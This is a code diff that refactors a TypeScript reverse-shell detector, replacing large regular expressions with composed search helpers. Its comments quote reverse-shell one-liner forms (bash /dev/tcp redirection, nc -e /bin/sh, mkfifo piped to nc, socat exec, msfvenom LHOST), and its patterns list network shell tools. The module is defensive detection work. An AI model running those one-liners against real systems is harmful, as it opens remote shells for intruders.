@@ -1,43 +1,109 @@
 import type { Detector, Hit, Scene } from '../../detector.ts'
+import {
+  cursorOf,
+  either,
+  far,
+  inOrder,
+  LINE,
+  near,
+  type Search,
+  startingWith,
+} from '../../search.ts'
 import { isDocument } from '../surroundings.ts'
 
+const SHELL_WORD = /\b(?:ba|z|k|da)?sh\b/gi
+const WIRE = /\b(?:nc|ncat|netcat|telnet|openssl|socat)\b/gi
+/** One command of a line. */
+const COMMAND = '\n;|&'
+
 /** Forms that nothing else has, each with how sure it is. */
-const FORMS: readonly (readonly [pattern: RegExp, confidence: number])[] = [
+const FORMS: readonly (readonly [form: Search, confidence: number])[] = [
   // bash -i >& /dev/tcp/h/p 0>&1, exec 5<>/dev/tcp/h/p
   [
-    /(?:\b(?:ba|z|k|da)?sh\s{1,3}-i\b[^\n]{0,40}|[0-9]{1,3}<>\s{0,3}|>&\s{0,3})\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}/gi,
+    either(
+      inOrder(
+        /\b(?:ba|z|k|da)?sh\s{1,3}-i\b/gi,
+        far(40, LINE, /\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}/gi),
+      ),
+      /(?:[0-9]{1,3}<>\s{0,3}|>&\s{0,3})\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}/gi,
+    ),
     0.95,
   ],
-  [/\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]{1,40}[^\n]{0,60}[0-9]?[<>]&\s?[0-9]/gi, 0.95],
+  [
+    inOrder(/\/dev\/(?:tcp|udp)\/[^\s/]{1,120}\/[\w${}]/gi, far(99, LINE, /[0-9]?[<>]&\s?[0-9]/g)),
+    0.95,
+  ],
   [/\b(?:ba|z|k|da)?sh\s{1,3}-i\s{1,3}[0-9]?[<>]&\s?[0-9%]/gi, 0.92],
   // nc -e /bin/sh, ncat --exec cmd.exe
   [
-    /\b(?:nc|ncat|netcat|nc\.traditional)(?:\.exe)?\s[^\n;|&]{0,120}?-{1,2}(?:[a-z]{0,6}[ec]|exec|sh-exec)[\s=]{1,3}["']?(?:\/?(?:usr\/|system\/)?s?bin\/)?(?:(?:ba|z|k|da|a)?sh\b|cmd\b|powershell\b)/gi,
+    inOrder(
+      /\b(?:nc|ncat|netcat|nc\.traditional)(?:\.exe)?\s/gi,
+      near(
+        120,
+        COMMAND,
+        /-{1,2}(?:[a-z]{0,6}[ec]|exec|sh-exec)[\s=]{1,3}["']?(?:\/?(?:usr\/|system\/)?s?bin\/)?(?:(?:ba|z|k|da|a)?sh\b|cmd\b|powershell\b)/gi,
+      ),
+    ),
     0.95,
   ],
   // … | /bin/sh -i 2>&1 | nc h p
   [
-    /\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b[^|\n]{0,40}\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl|socat)\s/gi,
+    inOrder(
+      /\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/gi,
+      far(40, '|\n', /\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl|socat)\s/gi),
+    ),
     0.95,
   ],
   // telnet h p | /bin/sh
   [
-    /\b(?:telnet|nc|ncat|netcat)\s{1,3}[\w.:$-]{3,120}\s{1,3}[0-9$]\w{0,12}[^\n|]{0,120}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/gi,
+    inOrder(
+      startingWith(
+        /\b(?:telnet|nc|ncat|netcat)\s/gi,
+        /(?:telnet|nc|ncat|netcat)\s{1,3}[\w.:$-]{3,120}\s{1,3}[0-9$]/iy,
+      ),
+      far(132, '\n|', /\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|z|k|da)?sh\b/gi),
+    ),
     0.92,
   ],
+  // mkfifo /tmp/f; cat /tmp/f | sh | nc h p > /tmp/f
   [
-    /\bmk(?:fifo|nod)\s[^\n]{1,120}[\n;&][^\n]{0,200}(?:\b(?:ba|z|k|da)?sh\b[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl|socat)\b|\b(?:nc|ncat|netcat|telnet|openssl|socat)\b[^\n]{0,200}\b(?:ba|z|k|da)?sh\b)/gi,
+    inOrder(
+      /\bmk(?:fifo|nod)\s[^\n]/gi,
+      far(119, LINE, /[\n;&]/g),
+      far(
+        200,
+        LINE,
+        either(
+          inOrder(SHELL_WORD, far(200, LINE, WIRE)),
+          inOrder(WIRE, far(200, LINE, SHELL_WORD)),
+        ),
+      ),
+    ),
     0.92,
   ],
   // socat exec:/bin/sh
   [
-    /\bsocat\s[^\n]{0,200}?(?:exec|system):["']?(?:[^\n,"' ]{0,40}\/)?(?:(?:ba|z|k|da)?sh\b|cmd\b|powershell\b|\$\w{0,12}SHELL)/gi,
+    inOrder(
+      /\bsocat\s/gi,
+      near(
+        200,
+        LINE,
+        /(?:exec|system):["']?(?:[^\n,"' ]{0,40}\/)?(?:(?:ba|z|k|da)?sh\b|cmd\b|powershell\b|\$\w{0,12}SHELL)/gi,
+      ),
+    ),
     0.92,
   ],
   [/\bsocket\s{1,3}-[a-z]{0,4}p[a-z]{0,4}\s{1,3}["']?\/bin\/(?:ba|z)?sh\b/gi, 0.92],
   // awk "/inet/tcp/0/h/p"
-  [/["']\/inet6?\/(?:tcp|udp)\/[^"'\n]{3,160}["'][\s\S]{0,300}?(?:\|&|getline)/gi, 0.92],
-  [/\bmsfvenom\b[^\n]{0,160}\bLHOST\s?=/gi, 0.92],
+  [
+    inOrder(
+      /["']\/inet6?\/(?:tcp|udp)\/[^"'\n]{3}/gi,
+      far(157, '"\'\n', /["']/g),
+      near(300, '', /\|&|getline/gi),
+    ),
+    0.92,
+  ],
+  [inOrder(/\bmsfvenom\b/gi, far(160, LINE, /\bLHOST\s?=/gi)), 0.92],
 ]
 
 /** The cheap question before each form is tried. */
@@ -52,8 +118,10 @@ const SHELL =
 const JOINS =
   /\bexec|\bspawn|popen|\bsystem\b|dup2|ProcessBuilder|Process\.start|Process\.Start|subprocess|shell_exec|proc_open|passthru|Runtime\.getRuntime|open\(STD|Command::new|exec\.Command|\biex\b|Invoke-Expression|from_raw_fd|<&3|Execve|ForkExec|os\.execute/
 /** Reads a line from the wire and runs it. */
-const OBEYS =
-  /(?:gets|receive|recv|readline|getline|Read)\b[^\n]{0,80}(?:popen|exec|system|iex|shell_exec|Invoke-Expression)\b/i
+const OBEYS = inOrder(
+  /(?:gets|receive|recv|readline|getline|Read)\b/gi,
+  far(80, LINE, /(?:popen|exec|system|iex|shell_exec|Invoke-Expression)\b/gi),
+)
 const SPAN = 700
 
 /** The offsets of a program that is all three within one span; null if there is none. */
@@ -61,22 +129,23 @@ function programIn(text: string, from: number, to: number): Hit | null {
   const window = text.slice(from, to)
   const at = window.search(CONNECTS)
   if (at === -1) return null
-  const near = window.slice(Math.max(0, at - SPAN), at + SPAN)
-  if (!JOINS.test(near)) return null
-  const hasShell = SHELL.test(near)
-  if (!hasShell && !OBEYS.test(near)) return null
+  const around = window.slice(Math.max(0, at - SPAN), at + SPAN)
+  if (!JOINS.test(around)) return null
+  const hasShell = SHELL.test(around)
+  if (!hasShell && cursorOf(OBEYS, around)(0) === null) return null
   return { start: from + at, end: Math.min(to, from + at + SPAN), confidence: 0.9 }
 }
 
 function find(text: string, from: number, to: number, scene: Scene): readonly Hit[] {
   const hits: Hit[] = []
   const window = from === 0 && to === text.length ? text : text.slice(from, to)
-  for (const [pattern, confidence] of ANY_FORM.test(window) ? FORMS : []) {
-    pattern.lastIndex = 0
-    for (let match = pattern.exec(window); match !== null; match = pattern.exec(window)) {
-      const start = from + match.index
-      hits.push({ start, end: start + match[0].length, confidence })
+  for (const [form, confidence] of ANY_FORM.test(window) ? FORMS : []) {
+    const next = cursorOf(form, window)
+    for (let match = next(0); match !== null; ) {
+      const end = match.index + match[0].length
+      hits.push({ start: from + match.index, end: from + end, confidence })
       if (hits.length >= 16) return hits
+      match = next(end)
     }
   }
   if (hits.length > 0) return hits
